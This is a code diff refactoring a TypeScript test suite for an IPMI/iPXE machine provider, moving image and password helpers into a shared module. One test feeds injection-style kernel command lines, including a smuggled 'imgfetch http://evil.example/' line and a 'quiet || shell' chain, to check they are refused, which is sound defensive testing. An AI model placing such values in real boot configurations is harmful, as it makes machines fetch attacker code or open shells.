@@ -2,30 +2,24 @@ import { chmod, mkdtempDisposable, readdir, readFile, writeFile } from 'node:fs/
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { digestOf, parseYaml } from '@lkt/core';
-import { findBootFiles } from '@lkt/machine';
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import { EXAMPLE_LABELS } from '../../example-labels.ts';
 import { openIpmi } from '../../../src/providers/ipmi/open.ts';
 import { IPMI_SETTINGS, type IpmiSettings } from '../../../src/providers/ipmi/settings.ts';
 import type { MachineImage, NodeRequest, Provider } from '../../../src/provider.ts';
 import { describeProvider } from '../../provider-conformance.ts';
-import { writeTinyImage } from '../../../../machine/test/tiny-kernel.ts';
 import { serveBootFiles } from './boot-server.ts';
 import { type IpmiTestMachine, startIpmiMachine } from './ipmi-machine.ts';
-
-const macOf = (index: number): string => `52:54:00:12:34:0${index}`;
+import { imageIn, macOf, startRack, writePassword } from './rack.ts';
 
 describeProvider('ipmi', async () => {
   await using stack = new AsyncDisposableStack();
-  const dir = stack.use(await mkdtempDisposable(join(tmpdir(), 'lkt-fleet-')));
-  const machines = new Map<string, IpmiTestMachine>();
-  for (const index of [0, 1, 2])
-    machines.set(`rack-${index}`, stack.use(await startIpmiMachine(['-net', 'none'])));
-  const open = await opener(dir.path, machines);
+  const rack = stack.use(await startRack(async () => startIpmiMachine(['-net', 'none'])));
+  const { dir, machines } = rack;
   const fixture = {
-    open,
-    image: await tinyImage(dir.path, 'hello'),
-    otherImage: await tinyImage(dir.path, 'other'),
+    open: async () => openIpmi({ ...settingsOf(dir, machines), warn: () => undefined }),
+    image: await imageIn(dir, 'hello'),
+    otherImage: await imageIn(dir, 'other'),
     template: { cpus: 1, memory: 64, publish: [8080], volumes: [] },
     impossible: { name: '../escape' },
     powerOff: async ({ name }: { readonly name: string }) => machines.get(name)?.kill(),
@@ -35,8 +29,8 @@ describeProvider('ipmi', async () => {
     ...fixture,
     [Symbol.asyncDispose]: async () => {
       // The last test destroyed every node: nothing boots a machine that is free.
-      expect(await readdir(join(dir.path, 'state', 'boot', 'machines'))).toEqual([]);
-      expect(await readdir(join(dir.path, 'state', 'nodes'))).toEqual([]);
+      expect(await readdir(join(dir, 'state', 'boot', 'machines'))).toEqual([]);
+      expect(await readdir(join(dir, 'state', 'nodes'))).toEqual([]);
       await owned.disposeAsync();
     },
   };
@@ -62,7 +56,7 @@ describe('ipmi machine', () => {
   const options = { generation: 1, signal: AbortSignal.timeout(170_000) };
 
   test('boots the image of its node from the network', async () => {
-    const image = await tinyImage(dir, 'booted by iPXE');
+    const image = await imageIn(dir, 'booted by iPXE');
     const id = await provider.prepare(image, options);
     await provider.create(request('rack-0', id, image), options);
     expect(await machine.bootDevice()).toBe('pxe');
@@ -76,7 +70,7 @@ describe('ipmi machine', () => {
   });
 
   test('lists a node as running while its BMC does not respond, with a warning', async () => {
-    const image = await tinyImage(dir, 'quiet');
+    const image = await imageIn(dir, 'quiet');
     const id = await provider.prepare(image, options);
     await provider.create(request('rack-0', id, image), options);
     const warnings: string[] = [];
@@ -95,7 +89,7 @@ describe('ipmi machine', () => {
     await writeFile(password, 'hunter2\n', { mode: 0o600 });
     const settings = { ...settingsOf(dir, new Map([['rack-0', machine]])), passwordFile: password };
     await using wrong = await openIpmi({ ...settings, warn: () => undefined });
-    const image = await tinyImage(dir, 'quiet');
+    const image = await imageIn(dir, 'quiet');
     const id = await wrong.prepare(image, options);
     const error: unknown = await wrong
       .create(request('rack-0', id, image), options)
@@ -114,7 +108,7 @@ describe('ipmi machine', () => {
     ['a second line', 'quiet\nimgfetch http://evil.example/'],
     ['another command', 'quiet || shell'],
   ])('refuses a command line with %s, which iPXE would change', async (_, cmdline) => {
-    const { files } = await tinyImage(dir, 'quiet');
+    const { files } = await imageIn(dir, 'quiet');
     const image = { digest: digestOf(cmdline), files: { ...files, cmdline } as typeof files };
     await expect(provider.prepare(image, options)).rejects.toMatchObject({ failure: 'invalid' });
   });
@@ -133,7 +127,7 @@ describe('ipmi machine', () => {
   });
 
   test('lists no node at all if a record is damaged', async () => {
-    const image = await tinyImage(dir, 'quiet');
+    const image = await imageIn(dir, 'quiet');
     const id = await provider.prepare(image, options);
     await provider.create(request('rack-0', id, image), options);
     const record = join(dir, 'state', 'nodes', 'rack-0.json');
@@ -194,15 +188,9 @@ async function opener(
   machines: ReadonlyMap<string, IpmiTestMachine>,
   warnings: string[] = [],
 ): Promise<() => Promise<Provider>> {
-  await writeFile(join(dir, 'password'), 'test\n', { mode: 0o600 });
+  await writePassword(dir);
   const warn = (text: string): void => void warnings.push(text);
   return async () => openIpmi({ ...settingsOf(dir, machines), warn });
-}
-
-async function tinyImage(dir: string, cmdline: string): Promise<MachineImage> {
-  const prefix = join(dir, cmdline.replaceAll(' ', '-'));
-  await writeTinyImage(prefix, cmdline);
-  return { digest: digestOf(cmdline), files: await findBootFiles(prefix) };
 }
 
 function request(name: string, image: string, { digest }: MachineImage): NodeRequest {
